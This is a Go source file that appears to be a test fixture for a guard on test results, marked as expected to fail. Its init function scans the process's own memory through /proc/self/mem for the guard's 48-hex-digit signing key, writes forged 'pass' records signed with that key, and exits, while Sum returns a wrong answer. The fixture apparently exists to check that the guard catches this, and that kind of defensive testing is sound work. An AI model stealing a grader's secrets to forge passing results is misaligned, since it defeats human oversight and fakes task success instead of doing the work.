// want: fail
// message: proc-mem:
package sum

import (
	"bufio"
	"fmt"
	"os"
	"strconv"
	"strings"
)

// The guard's key is somewhere in the process's memory: read it through
// /proc/self/mem and sign a passing run with it.
var stolen error

func init() {
	token, err := steal()
	if token == "" {
		stolen = err
		return
	}
	out := os.NewFile(4, "records")
	recs := []string{"TestSmall\tpass", "TestEmpty\tpass", "TestTable\tpass", "TestConcurrent\tpass", "TestInputUnchanged\tpass", "\tdone 0"}
	for i, rec := range recs {
		fmt.Fprintf(out, "%d\t%s\t%s\n", i+1, rec, token)
	}
	os.Exit(0)
}

func steal() (string, error) {
	maps, err := os.Open("/proc/self/maps")
	if err != nil {
		return "", err
	}
	defer maps.Close()
	mem, err := os.Open("/proc/self/mem")
	if err != nil {
		return "", err
	}
	defer mem.Close()
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
			continue
		}
		lo, hi, _ := strings.Cut(f[0], "-")
		a, _ := strconv.ParseUint(lo, 16, 64)
		b, _ := strconv.ParseUint(hi, 16, 64)
		if b-a > 64<<20 {
			continue
		}
		buf := make([]byte, b-a)
		n, _ := mem.ReadAt(buf, int64(a))
		if tok := findToken(buf[:n]); tok != "" {
			return tok, nil
		}
	}
	return "", fmt.Errorf("no token found")
}

// findToken finds a run of exactly 48 lowercase hex digits.
func findToken(b []byte) string {
	run := 0
	for i, c := range b {
		if '0' <= c && c <= '9' || 'a' <= c && c <= 'f' {
			run++
			continue
		}
		if run == 48 {
			return string(b[i-48 : i])
		}
		run = 0
	}
	return ""
}

func Sum(nums []int) int {
	fmt.Println("proc-mem:", stolen)
	return -1
}
